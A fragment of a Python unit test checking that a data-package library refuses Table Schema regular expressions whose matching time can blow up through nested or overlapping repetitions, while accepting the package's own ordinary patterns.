    ("(a+)+", True), ("^(?:.{1,1000}){1,1000}!$", True),
    ("a*b*", False), (r"^[0-9]+\.[0-9]+\.[0-9]+$", False), (r"^\S+( \S+){0,4}$", False), ("^[a-z][a-z -]*[a-z]$", False),
    (r"^\{subject\}[^{}]*(\{(s|is|does)\}[^{}]*)?\{object\}[^{}]*$", False), (r"^10\.[0-9]{4,9}/\S+$", False),
])
def test_a_pattern_whose_matching_time_can_grow_with_a_power_of_the_value_is_refused(pattern, refused):
    """A Table Schema's pattern runs on every cell of its column with Python's backtracking engine:
    two unbounded repetitions that can share characters (as '.*.*=', which took 69 s on a 4 KB cell)
    are refused, as are nested ones; the package's own patterns pass."""
    from painimmune.package.patterns import check_pattern

    assert (check_pattern(pattern) is not None) == refused
